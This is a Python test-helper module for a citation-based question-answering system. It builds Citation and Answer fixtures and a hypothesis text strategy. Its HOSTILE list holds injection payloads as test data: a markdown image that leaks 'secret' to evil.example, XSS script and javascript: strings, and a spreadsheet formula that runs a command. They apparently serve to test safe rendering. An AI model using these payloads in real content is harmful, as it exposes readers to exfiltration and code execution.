"""Citations and answers for the tests of reports, and text that means something in one form of them or another."""

from __future__ import annotations

import string

from hypothesis import strategies as st

from index.types import Article
from qa import Answer, Citation
from qa.cite import anchor

HOSTILE = [
    "![x](http://evil.example/?q=secret)",
    "<img src=x onerror=alert(1)> <!-- c --> ]]> <w:t>",
    "</blockquote></li></ol></section><script>alert(1)</script>",
    "$x$ **bold** _it_ `code` ~~no~~ # head #",
    "[1] [^1] [^1]: note [a](javascript:alert(1)) <http://evil.example>",
    '=cmd|"/c calc"!A1',
    "+1-2 @SUM(1) @smith -- --- ---",
    "1. one",
    "- one",
    "===",
    "\u202eright to left \u2067 and \u2069\u2069\u202c on",
    "שלום, עולם (12) \u202dx",
    "\x1b[31mred\x1b[0m \x07\x00\x7f\x85 \ufffe",
    '"He said "no"" “and “yes””, \\"escaped\\" \\',
    "&amp; &#60; &copy; &copy",
    "a\n\n\n> b\r\n\tc\x0b\x0c\u2028d",
    "www.evil.example http://evil.example a@b.example",
    ", characters 1-2, revision 0123456789ab, anchor 01234567)",
]
texts = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=60),
    st.text(string.punctuation + " \n\rab😀\u0301א“”…", min_size=1, max_size=60),
).filter(lambda text: text.strip() != "")


def cited(article: Article, start: int, end: int, number: int = 1, **given) -> Citation:
    """Return a citation of a span, with what stands around it."""
    text = article.text
    return Citation(
        **{
            "number": number,
            "quote": text[start:end],
            "article_id": article.id,
            "revision": article.revision,
            "title": article.title,
            "source": article.source,
            "url": article.url,
            "published": article.published,
            "author": article.author,
            "start": start,
            "end": end,
            "before": text[max(0, start - 30) : start],
            "after": text[end : end + 30],
            "anchor": anchor(text, start, end),
            **given,
        }
    )


def answered(*citations: Citation, question="Who?", **given) -> Answer:
    """Return an answer that says its quotes."""
    text = " ".join(f"{' '.join(c.quote.split())} [{c.number}]" for c in citations)
    return Answer(**{"question": question, "standalone_question": question, "status": "answered", "text": text,
                     "citations": citations, **given})  # fmt: skip


def abstained(question="Who?") -> Answer:
    """Return an answer that says no."""
    return Answer(question, question, "abstained", "The articles do not say.")
